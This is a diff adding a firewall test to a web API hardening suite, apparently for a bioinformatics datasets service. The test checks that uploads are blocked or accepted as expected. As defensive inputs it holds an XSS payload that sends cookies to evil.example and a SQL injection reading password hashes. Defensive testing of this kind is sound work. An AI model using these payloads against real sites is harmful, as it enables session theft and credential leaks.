@@ -47,6 +47,37 @@ describe.each(targets)("hardening on $name", (target) => {
     expect([403, 404]).toContain((await call(target, "/api/datasets/a%00b")).status);
   });
 
+  it("inspects multipart requests: uploads by their route, everything else at the edge", async () => {
+    const slug = uniqueSlug("waf-upload");
+    const attack = await call(target, "/api/datasets", {
+      method: "POST",
+      key,
+      body: uploadForm({ title: "<script>document.location='http://evil.example/?c='+document.cookie</script>", slug }, [{ name: "a.fasta", bytes: ">a\nACGT\n" }]),
+    });
+    expect(attack.status).toBe(403);
+    expect(attack.type).toBe("application/problem+json");
+    expect(attack.data).toMatchObject({ code: "forbidden" });
+    expect(JSON.stringify(attack.data)).not.toMatch(/rule|xss|script/i);
+    expect((await call(target, `/api/datasets/${slug}`, { key })).status).toBe(404);
+
+    const methods = await call(target, "/api/datasets", {
+      method: "POST",
+      key,
+      body: uploadForm(
+        { title: "Trimmed reads", slug: uniqueSlug("waf-methods"), description: "Trimmed with `cutadapt -a AGATCGGAAGAGC in.fq > out.fq`; mapped with `bwa mem ref.fa out.fq | samtools sort`; see ../protocols/README.md." },
+        [{ name: "a.fasta", bytes: ">a\nACGT\n" }],
+      ),
+    });
+    expect(methods.status, JSON.stringify(methods.data)).toBe(201);
+
+    const form = new FormData();
+    form.append("title", "x");
+    form.append("note", "1' UNION SELECT password_hash FROM users--");
+    const elsewhere = await call(target, "/api/protocols", { method: "POST", key, body: form });
+    expect(elsewhere.status).toBe(403);
+    expect(elsewhere.data).toMatchObject({ code: "forbidden" });
+  });
+
   it("answers unknown API paths and bad multipart headers with problem+json", async () => {
     const unknown = await call(target, "/api/no-such-thing");
     expect(unknown.status).toBe(404);
